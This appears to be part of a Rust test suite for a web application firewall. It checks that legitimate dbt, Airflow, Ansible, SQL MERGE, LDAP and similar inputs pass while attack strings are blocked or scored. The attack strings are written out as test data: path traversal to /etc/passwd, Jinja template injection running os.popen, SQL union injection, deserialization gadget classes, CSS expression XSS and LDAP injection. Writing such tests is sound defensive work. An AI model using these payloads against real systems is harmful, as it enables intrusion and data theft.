        r#"{"sample":[{"url":"../../../sharp-objects_997/index.html"},{"url":"../../../most-blessed_727/index.htm"}]}"#,
    );
    assert!(!o.blocked && rule(&o, 3000).is_none(), "{o:?}");
    for v in [
        "../../../etc/passwd",
        "../../etc/passwd%00.html",
        "../../x.html?f=/etc/passwd",
        "..%2f..%2fetc/x.html",
        "../../../etc/passwd/x.html",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "url": v }).to_string());
        assert!(rule(&o, 3000) == Some(5) || o.blocked, "{v}: {o:?}");
    }
}

#[test]
fn dbt_models_pass_and_template_probes_still_score() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);

    // A dbt model saved from the IDE: a configuration block (3600 no signal), then a query over
    // relation tags with an incremental filter; its clauses are the query's own (one program).
    let model = "{{\n    config(\n        materialized='incremental',\n        unique_key='order_id',\n        cluster_by=['order_date'],\n        persist_docs={'relation': true},\n        full_refresh=False\n    )\n}}\n\nselect\n    o.order_id,\n    sum(i.amount) as order_total\nfrom {{ ref('stg_orders') }} o\njoin {{ ref('stg_order_items') }} i using (order_id)\n{% if is_incremental() %}\nwhere o.updated_at > (select max(updated_at) from {{ this }})\n{% endif %}\ngroup by 1, 2\n";
    let o = json_post(&waf, &serde_json::json!({ "content": model }).to_string());
    assert!(!o.blocked && rule(&o, 3600).is_none(), "{o:?}");
    let snapshot = "{% snapshot customers_snapshot %}\n{{ config(target_schema='snapshots', unique_key='id', strategy='check', check_cols=['email']) }}\nselect * from {{ source('shop', 'customers') }}\nwhere email not like '%@test.example'\n{% endsnapshot %}";
    let o = json_post(&waf, &serde_json::json!({ "content": snapshot }).to_string());
    assert!(!o.blocked && rule(&o, 3600).is_none(), "{o:?}");

    // Flask's config read, and any config tag that is no keyword call of literals, still counts.
    for v in [
        "{{ config }}",
        "{{config.items()}}",
        "{{ config['SECRET_KEY'] }}",
        "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
        "{{ config(materialized='table') }}{{ config.items() }}",
        "{{ config(x=config.items()) }}",
        "{{ config(7*7) }}",
        "{{ config() }}",
        "{{ config(x='{{7*7}}') }}",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "q": v }).to_string());
        assert!(rule(&o, 3600) == Some(5), "{v}: {o:?}");
    }
    // A model whose SQL breaks out, or with another tag, is no whole statement.
    for v in [
        "{{ ref('x') }}' union select password from users-- ",
        "{{ config(materialized='table') }}' union select password from users group by 1-- ",
        "{{ var('x') }} select * from t group by 1,2,3,4,5,6,7,8,9,10-- '",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "q": v }).to_string());
        assert!(o.blocked, "{v}: {o:?}");
    }
}

#[test]
fn holdout116_to_118_classes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);

    // Python's string prefixes open a string (an Airflow DAG's `sql=f"SELECT …"`), as SQL's
    // `N'…'` does; glued to a word, or with a space after the quote, they break out as before.
    let dag = "check = SQLCheckOperator(\n    task_id=f\"check_{table}\",\n    sql=f\"SELECT COUNT(*) > 0 FROM raw.shopify_{table} WHERE d = '{{ ds }}'\",\n)\nload = Op(copy_options=[\"FORMAT AS JSON 'auto'\"], pattern=r'^\\d+$', raw=b\"x\")";
    let o = json_post(&waf, &serde_json::json!({ "source": dag }).to_string());
    assert!(!o.blocked, "{o:?}");
    for v in ["f' or 1=1--", "x=f'1' or 'a'='a", "admin' or 1=1--", "elf' union select password from users--"] {
        for o in as_field_and_query(&waf, v) {
            assert!(blocked_category(&o, Category::Sqli), "{v}: {o:?}");
        }
    }

    // A warehouse's MERGE is a whole statement (4219 weak, one program with 4215).
    let merge = "MERGE INTO analytics.dim_customers t\nUSING (\n    SELECT customer_id, email FROM raw.customers\n    QUALIFY ROW_NUMBER() OVER (PARTITION BY customer_id ORDER BY updated_at DESC) = 1\n) s\nON t.customer_id = s.customer_id\nWHEN MATCHED THEN UPDATE SET t.email = s.email\nWHEN NOT MATCHED THEN INSERT (customer_id, email) VALUES (s.customer_id, s.email);";
    let o = json_post(&waf, &serde_json::json!({ "statement": merge }).to_string());
    assert!(!o.blocked, "{o:?}");
    let o = json_post(
        &waf,
        &serde_json::json!({ "q": "1' merge into t using x on 1=1 when matched then delete--" }).to_string(),
    );
    assert!(o.blocked, "{o:?}");

    // An Ansible template's loop over a mapping's items (3600 no signal); the engine's globals
    // and internals reached the same way still count.
    let playbook = "content: |\n  {% for key, value in app_env.items() | sort %}\n  {{ key }}={{ value | quote }}\n  {% endfor %}\n";
    let o = json_post(&waf, &serde_json::json!({ "content": playbook }).to_string());
    assert!(!o.blocked && rule(&o, 3600).is_none(), "{o:?}");
    for v in [
        "{% for k, v in config.items() %}{{ k }}={{ v }}{% endfor %}",
        "{% for k, v in request.environ.items() %}{{ v }}{% endfor %}",
        "{% for x in self.__dict__.items() %}{% endfor %}",
        "{% for x in lipsum.__globals__.items() %}{% endfor %}",
        "{% for k in app_env.items() %}{% endfor %}{% for l in f.read() %}{% endfor %}",
        "{% for k in x.items(1) %}{% endfor %}",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "q": v }).to_string());
        assert!(rule(&o, 3600) == Some(5), "{v}: {o:?}");
    }

    // A package URL names a Maven namespace, no class (4401); a class after it still counts.
    let o = json_post(&waf, r#"{"queries":[{"package":{"purl":"pkg:maven/org.apache.commons/commons-text@1.9"}}]}"#);
    assert!(!o.blocked && rule(&o, 4401).is_none(), "{o:?}");
    for v in
        ["org.apache.commons.collections.functors.InvokerTransformer", "org.apache.commons.beanutils.BeanComparator"]
    {
        let o = json_post(&waf, &serde_json::json!({ "class": v }).to_string());
        assert!(rule(&o, 4401) == Some(5), "{v}: {o:?}");
    }

    // R's `expression(…)` labels a plot (4105 no signal); IE's CSS expression in a style counts.
    let r = "x <- rnorm(200)\nhist(x, breaks = 20, main = expression(paste(\"N(\", mu, \"=10)\")))";
    let o = json_post(&waf, &serde_json::json!({ "code": r }).to_string());
    assert!(!o.blocked && rule(&o, 4105).is_none(), "{o:?}");
    for v in [
        "body{x:expression(alert(1))}",
        "width: expression(alert(1))",
        "<p style=\"x:expression(alert(1))\">a</p>",
        "a{color:red;x:expression(1)}",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "q": v }).to_string());
        assert!(rule(&o, 4105) == Some(5), "{v}: {o:?}");
    }
}

#[test]
fn holdout119_to_121_classes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);

    // A hybrid app's or a developer's front end sends a loopback origin (3501 no signal); a
    // loopback URL anywhere else, or more than an origin in the header, counts.
    let origin = |v: &str| waf.outcome(&waf.inspect_head(&get("/webservice/rest/server.php", &[("origin", v)])));
    for v in [
        "moodleappfs://localhost",
        "capacitor://localhost",
        "http://localhost:5173",
        "http://127.0.0.1:8080",
        "http://[::1]:3000",
    ] {
        let o = origin(v);
        assert!(!o.blocked && rule(&o, 3501).is_none(), "{v}: {o:?}");
    }
    for v in ["http://localhost/admin", "http://user@127.0.0.1", "http://localhost:8080?x=1", "http://localhost/ x"] {
        let o = origin(v);
        assert!(rule(&o, 3501) == Some(5), "{v}: {o:?}");
    }
    let o = waf.outcome(&waf.inspect_head(&get("/fetch", &[("referer", "http://localhost:8080")])));
    assert!(rule(&o, 3501) == Some(5), "{o:?}");
    let o = outcome(&waf, "/fetch?url=capacitor://localhost");
    assert!(rule(&o, 3501) == Some(5), "{o:?}");

    // A directory connector's whole LDAP filter is the filter it runs (1016 no signal), in a
    // JSON setting and in a preview's query; an injection closes the application's component.
    let o = json_post(
        &waf,
        r#"{"user_filter":"(&(objectCategory=person)(objectClass=user)(!(userAccountControl:1.2.840.113556.1.4.803:=2))(memberOf=CN=Users,OU=Groups,DC=corp,DC=example))","group_filter":"(&(objectClass=group)(|(cn=Key*)(cn=Finance*)))"}"#,
    );
    assert!(!o.blocked && rule(&o, 1016).is_none(), "{o:?}");
    let o = outcome(&waf, "/directory/preview?filter=%28%26%28objectClass%3Duser%29%28department%3DFinance%2A%29%29");
    assert!(!o.blocked && rule(&o, 1016).is_none(), "{o:?}");
    for v in [
        "*)(uid=*))(|(uid=*",
        "admin)(&(objectclass=*))",
        "x)(|(password=*))",
        "(uid=*))(|(uid=*)",
        "(cn=a)(|(uid=*))",
        "(cn=adm*)",
        "(&(uid=admin)(|(x=*)))(cn=*)",
        "(x*)(|(uid=*))",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "q": v }).to_string());
        assert!(rule(&o, 1016).is_some(), "{v}: {o:?}");
    }
}
